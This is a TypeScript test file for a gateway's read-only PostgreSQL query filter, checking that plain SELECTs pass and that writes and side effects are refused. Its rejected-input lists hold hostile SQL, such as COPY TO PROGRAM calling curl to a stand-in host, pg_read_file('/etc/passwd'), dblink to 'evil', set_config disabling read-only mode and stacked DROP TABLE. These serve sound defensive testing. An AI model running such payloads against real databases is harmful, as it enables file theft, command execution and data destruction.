import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readOnlyQuery } from '../../../../gateway/tools/connectors/postgres/read-only.ts';

const reading: [string, string?][] = [
  ['select 1'],
  ['  select 1 ;  -- the end', 'select 1'],
  ['table customers'],
  ['values (1, 2), (3, 4)'],
  [`select 'ä; drop' as "drop" ; `, `select 'ä; drop' as "drop"`],
  [
    `with recursive tree (id) as (select 1 union all select id + 1 from tree where id < 5)
     select count(*) filter (where id > 2) over (partition by id order by id), extract(year from now())
     from tree t join lateral (select t.id as x) y on true, unnest(array[1, 2]) with ordinality u
     where id in (1, 2) and not exists (select from prices p where p.price between 1 and 2) and name ilike 'a%'
     group by grouping sets ((id), ()) having grouping(id) = 0
     window w as (order by id rows between unbounded preceding and current row)
     order by id collate "C" desc nulls last limit 5 offset 0`,
  ],
  [
    `select pg_catalog.lower(name), name::text, coalesce(a, b), greatest(1, 2), (c).d, e[1:2], current_date from x`,
  ],
  [`select * from information_schema.columns`],
  [`select 1 union all (select 2 except select 3)`],
  [`select data ->> 'a', data @> '{}' from notes where at at time zone 'utc' > now() - interval '1 day'`],
];
for (const [sql, bare = sql] of reading) {
  test(`reads: ${sql.replace(/\s+/g, ' ').slice(0, 60)}`, async () => {
    assert.equal(await readOnlyQuery(sql), bare);
  });
}

const refused: [string, RegExp][] = [
  ['', /exactly one/],
  ['-- nothing', /exactly one/],
  ['select 1; select 2', /exactly one/],
  ['select 1; drop table customers', /exactly one/],
  ['selec 1', /syntax error/],
  [`select 'open`, /unterminated/],
  ['update prices set price = 0', /Write a SELECT/],
  ['insert into prices values (1)', /Write a SELECT/],
  ['explain analyze delete from prices', /Write a SELECT/],
  ['explain select 1', /Write a SELECT/],
  ['copy customers to program $$curl evil$$', /Write a SELECT/],
  ['do $$ begin end $$', /Write a SELECT/],
  ['set transaction read write', /Write a SELECT/],
  ['commit', /Write a SELECT/],
  ['declare c cursor for select 1', /Write a SELECT/],
  ['prepare p as select 1', /Write a SELECT/],
  ['call p()', /Write a SELECT/],
  ['listen x', /Write a SELECT/],
  ['lock table customers', /Write a SELECT/],
  ['select * into copy from customers', /INTO/],
  ['select 1 union select 2 into x', /INTO/],
  ['create table x as select 1', /Write a SELECT/],
  ['select * from customers for update', /FOR UPDATE/],
  ['select * from (select * from customers for share) c', /FOR UPDATE/],
  ['with x as (delete from prices returning *) select * from x', /DELETE/],
  ['with x as (update prices set price = 1 returning *) select * from x', /UPDATE/],
  ['with x as (insert into prices values (1) returning *) select * from x', /INSERT/],
  [
    'with x as (merge into prices using prices q on true when matched then delete returning *) table x',
    /MERGE/,
  ],
  ['select (with x as (delete from prices returning 1) select 1)', /DELETE/],
  ['select $1', /parameter/],
  ['select * from pg_authid', /catalogue/],
  ['select * from pg_catalog.pg_stat_activity', /catalogue/],
  ['table pg_settings', /catalogue/],
  ['select * from other.public.customers', /catalogue/],
  ['select 1 operator(public.+) 2', /sign/],
  ['select xmlelement(name a, 1)', /XmlExpr/],
  ['select * from customers tablesample system (1)', /RangeTableSample/],
  ['select * from xmltable($$/a$$ passing $$<a/>$$ columns b text)', /may not hold/],
  ['select 1\0', /NUL/],
  [`select '${'x'.repeat(20_000)}'`, /too long/],
];
for (const [sql, why] of refused) {
  test(`attack: not run: ${sql.replace(/\s+/g, ' ').slice(0, 60)}`, async () => {
    await assert.rejects(readOnlyQuery(sql), (error: { code?: string; message: string }) => {
      assert.equal(error.code, 'GH-TOOLS-050');
      assert.match(error.message, why);
      return true;
    });
  });
}

const effects = [
  `pg_sleep(1)`,
  `pg_catalog.pg_sleep(1)`,
  `"pg_sleep"(1)`,
  `PG_SLEEP(1)`,
  `U&"pg\\005fsleep"(1)`,
  `pg_read_file('/etc/passwd')`,
  `pg_ls_dir('/')`,
  `lo_import('/etc/passwd')`,
  `lo_get(1)`,
  `dblink('host=evil', 'select 1')`,
  `nextval('ledger_id_seq')`,
  `setval('ledger_id_seq', 1)`,
  `set_config('transaction_read_only', 'off', false)`,
  `current_setting('data_directory')`,
  `pg_notify('a', 'b')`,
  `pg_advisory_lock(1)`,
  `pg_terminate_backend(1)`,
  `query_to_xml('delete from prices', true, true, '')`,
  `database_to_xml(true, true, '')`,
  `ts_stat('select 1')`,
  `txid_current()`,
  `pg_export_snapshot()`,
  `pg_logical_emit_message(true, 'a', 'b')`,
  `repeat('x', 1000000000)`,
  `lpad('x', 1000000000)`,
  `format('%1000000000s', 'x')`,
  `wipe()`,
  `public.lower('x')`,
  `evil.count(*)`,
  `a.b.lower('x')`,
];
const places = [
  (call: string) => `select ${call}`,
  (call: string) => `select * from ${call} f`,
  (call: string) => `select 1 where exists (select ${call})`,
  (call: string) => `select count(*) filter (where ${call} is null) over (order by ${call}) from prices`,
  (call: string) => `with x as materialized (select ${call}) select 1 from x`,
  (call: string) => `select 1 order by (case when true then ${call}::text end) limit (select 1)`,
  (call: string) => `select 1 limit (select length(${call}::text))`,
  (call: string) => `values (array[row(coalesce(${call}::text, ''))])`,
  (call: string) => `select * from prices p join lateral (select ${call}) q on p.price > 1`,
  (call: string) => `select 1 union all select 2 from prices group by rollup (${call})`,
];
for (const call of effects) {
  test(`attack: no place of a query lets ${call} through`, async () => {
    for (const place of places) {
      await assert.rejects(readOnlyQuery(place(call)), /not among those that only compute/, place(call));
    }
  });
}

test('a function of the file is let through by its exact name only', async () => {
  assert.ok(await readOnlyQuery('select reports.margin(1)', ['reports.margin']));
  await assert.rejects(readOnlyQuery('select margin(1)', ['reports.margin']));
  await assert.rejects(readOnlyQuery('select other.margin(1)', ['reports.margin']));
});
